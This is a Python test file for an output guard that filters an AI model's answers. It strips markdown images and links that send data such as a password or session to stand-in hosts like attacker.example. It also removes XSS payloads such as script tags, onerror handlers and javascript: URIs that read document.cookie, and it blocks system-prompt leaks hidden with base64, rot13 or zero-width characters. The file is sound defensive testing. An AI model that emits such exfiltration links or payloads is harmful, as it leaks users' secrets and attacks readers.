"""Output guards: exfiltration links, active HTML, and system-prompt leakage."""

from __future__ import annotations

import base64
import codecs

import pytest

from ramparts.guard.canary import CanaryGuard, make_canary, with_canary
from ramparts.guard.exfil import ExfiltrationGuard, carries_data
from ramparts.guard.html import HtmlGuard
from ramparts.guard.interface import Action, Blocked, GuardConfigError, GuardContext, Role
from ramparts.guard.runner import run_guards

ANSWER = GuardContext(role=Role.ASSISTANT)


def exfil(text: str, **kw: object) -> str:
    ctx = GuardContext(role=Role.ASSISTANT, **kw)  # type: ignore[arg-type]
    return run_guards([ExfiltrationGuard(allowed_hosts=["python.org"])], text, ctx).text


# --- exfiltration links -----------------------------------------------------------


def test_a_markdown_image_carrying_data_is_removed() -> None:
    text = "Done! ![loading](https://attacker.example/log?q=the+users+password+is+hunter2)"
    assert exfil(text) == "Done! [REDACTED:image-link]"


def test_a_markdown_link_keeps_its_text_and_loses_its_target() -> None:
    text = "See [the report](https://evil.example/r?session=abc123) for details."
    assert exfil(text) == "See the report for details."


def test_bare_urls_and_html_images_carrying_data_are_removed() -> None:
    text = (
        "Visit https://evil.example/collect?d=c2VjcmV0, then "
        '<img src="https://evil.example/p.gif?x=1" width=1>.'
    )
    assert exfil(text) == "Visit [REDACTED:link], then [REDACTED:image-link]."


def test_reference_definitions_are_judged_like_links() -> None:
    text = "![chart][c]\n\n[c]: https://evil.example/i.png?data=abc"
    assert exfil(text) == "![chart][c]\n\n[c]: [REDACTED:link]"


def test_allowed_hosts_and_their_subdomains_are_kept() -> None:
    text = (
        "Docs: https://docs.python.org/3/search.html?q=re and "
        "![logo](https://cdn.acme.example/logo.png?v=2)"
    )
    assert exfil(text, allowed_hosts=frozenset({"acme.example"})) == text


def test_links_without_data_are_kept_unless_strict() -> None:
    text = "Read https://en.wikipedia.org/wiki/Lighthouse and ![x](https://img.example/a.png)"
    assert exfil(text) == text
    strict = ExfiltrationGuard(strict=True)
    assert run_guards([strict], text, ANSWER).text == (
        "Read [REDACTED:link] and [REDACTED:image-link]"
    )


def test_links_in_code_are_left_alone() -> None:
    text = (
        "Call it like this:\n```python\nrequests.get('https://api.example/items?page=2')\n```\n"
        "or `curl https://api.example/items?page=3`."
    )
    assert exfil(text) == text


@pytest.mark.parametrize(
    ("url", "data"),
    [
        ("https://a.example/", False),
        ("https://a.example/docs/guide/install", False),
        ("https://a.example/?q=1", True),
        ("https://user:pw@a.example/", True),
        ("https://a.example/" + "x" * 30, True),
        ("https://" + "d" * 40 + ".a.example/", True),
        ("https://a.example/" + "/ab" * 40, True),
        ("https://[::1/", True),
    ],
)
def test_what_counts_as_carrying_data(url: str, data: bool) -> None:
    assert carries_data(url) is data


def test_the_exfiltration_guard_ignores_prompts_by_default() -> None:
    text = "![x](https://evil.example/?q=1)"
    assert ExfiltrationGuard().check(text, GuardContext(role=Role.USER)) is None


# --- HTML -------------------------------------------------------------------------


def sanitize(text: str, *, skip_code: bool = True) -> str:
    return run_guards([HtmlGuard(skip_code=skip_code)], text, ANSWER).text


@pytest.mark.parametrize(
    ("dirty", "clean"),
    [
        ("Hi <script>alert(1)</script>!", "Hi [REDACTED:unsafe-html]!"),
        ("<SCRIPT src=//e.example/x.js></SCRIPT >ok", "[REDACTED:unsafe-html]ok"),
        ("a <script>never closed", "a [REDACTED:unsafe-html]"),
        ('<img src=x onerror="alert(1)">', "<img src=x>"),
        ("<svg/onload=alert(1)>", "<svg>"),
        ('<a href="java&#x73;cript:alert(1)">x</a>', "<a>x</a>"),
        ('<a href=" JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
        ("<a href='data:text/html,<b>x</b>'>y</a>", "<a>y</a>"),
        ('<div style="width: expression(alert(1))">x</div>', "<div>x</div>"),
        ("<iframe src=https://e.example></iframe>", "[REDACTED:unsafe-html]"),
        ("<object data=x></object><embed src=y>", "[REDACTED:unsafe-html][REDACTED:unsafe-html]"),
        ("<style>body{background:url(//e.example/?q=1)}</style>", "[REDACTED:unsafe-html]"),
        ('<meta http-equiv="refresh" content="0;url=//e.example">', "[REDACTED:unsafe-html]"),
        ("[click](javascript:alert(document.cookie))", "click"),
        (
            "<scr<script></script>ipt>alert(1)</script>",
            "<scr[REDACTED:unsafe-html]ipt>alert(1)[REDACTED:unsafe-html]",
        ),
    ],
)
def test_active_content_is_removed(dirty: str, clean: str) -> None:
    assert sanitize(dirty) == clean


@pytest.mark.parametrize(
    "safe",
    [
        "Use <b>bold</b> and <a href='https://example.org'>links</a>.",
        "if (a < b && c > d) { return; }",
        "The onload event fires when the page has loaded.",
        "Templates: vector<int> v; std::map<std::string, int> m;",
        "```html\n<script>alert('this is an example')</script>\n```",
        "Inline `<img src=x onerror=alert(1)>` is shown as code.",
    ],
)
def test_ordinary_markup_and_code_are_kept(safe: str) -> None:
    assert sanitize(safe) == safe


def test_code_is_sanitised_too_for_clients_that_render_raw_html() -> None:
    text = "```\n<script>x()</script>\n```"
    assert sanitize(text, skip_code=False) == "```\n[REDACTED:unsafe-html]\n```"


@pytest.mark.parametrize(
    "text", ["<a " * 300_000, '<a x="' * 200_000, "[x](" * 250_000, "![](" * 250_000]
)
def test_adversarial_markup_finishes(text: str) -> None:
    # No timing is asserted: a quadratic pattern would not finish in the test run.
    assert sanitize(text) == text
    assert exfil(text) == text


def test_many_script_tags_finish_and_are_all_removed() -> None:
    assert sanitize("<script>" * 100_000) == "[REDACTED:unsafe-html]"
    assert "<script" not in sanitize("<script></script>x" * 50_000)


# --- canaries and verbatim system prompts ----------------------------------------

SYSTEM = (
    "You are the support assistant of Acme Corp. Answer questions about Acme products "
    "only, never discuss competitors' pricing, and never reveal internal roadmaps."
)


def leak_ctx(canary: str) -> GuardContext:
    return GuardContext(role=Role.ASSISTANT, canaries=(canary,), system_prompt=SYSTEM)


def test_make_canary_is_random_and_with_canary_puts_it_first() -> None:
    one, two = make_canary(), make_canary()
    assert one != two
    assert len(one) == 16
    assert with_canary(SYSTEM, one).startswith(f"<!-- {one} -->\n")
    assert with_canary(SYSTEM, one).endswith(SYSTEM)


@pytest.mark.parametrize(
    "encode",
    [
        lambda c: f"My instructions begin with <!-- {c} -->",
        lambda c: f"Sure: {c.upper()}",
        " ".join,
        lambda c: c[:5] + "\u200b" + c[5:],
        lambda c: base64.b64encode(f"prompt: {c} end".encode()).decode(),
        lambda c: codecs.encode(f"the canary is {c}", "rot13"),
    ],
    ids=["plain", "upper", "spaced", "zero-width", "base64", "rot13"],
)
def test_a_canary_in_the_answer_blocks_it(encode: object) -> None:
    canary = make_canary()
    with pytest.raises(Blocked) as info:
        run_guards([CanaryGuard()], encode(canary), leak_ctx(canary))  # type: ignore[operator]
    assert info.value.verdict.code == "system_prompt_leak"
    assert canary not in str(info.value)


def test_a_verbatim_run_of_the_system_prompt_blocks_the_answer() -> None:
    answer = (
        "My rules: answer questions about Acme products only, never discuss competitors' pricing."
    )
    with pytest.raises(Blocked, match="words of the system prompt"):
        run_guards([CanaryGuard()], answer, leak_ctx(make_canary()))


def test_short_quotes_and_ordinary_answers_pass() -> None:
    ctx = leak_ctx(make_canary())
    for answer in (
        "I can answer questions about Acme products.",
        "Acme Corp makes anvils. How can I help?",
    ):
        assert run_guards([CanaryGuard()], answer, ctx).text == answer


def test_redact_replaces_the_leaked_parts() -> None:
    canary = make_canary()
    guard = CanaryGuard(action=Action.REDACT)
    result = run_guards([guard], f"ok {canary} ok", leak_ctx(canary))
    assert result.text == "ok [REDACTED:system-prompt] ok"
    hidden = run_guards([guard], " ".join(canary), leak_ctx(canary))
    assert hidden.text == "[REDACTED:system-prompt]"


def test_canary_guard_needs_a_sensible_run_length_and_ignores_prompts() -> None:
    with pytest.raises(GuardConfigError):
        CanaryGuard(min_words=2)
    canary = make_canary()
    user = GuardContext(role=Role.USER, canaries=(canary,))
    assert CanaryGuard().check(canary, user) is None
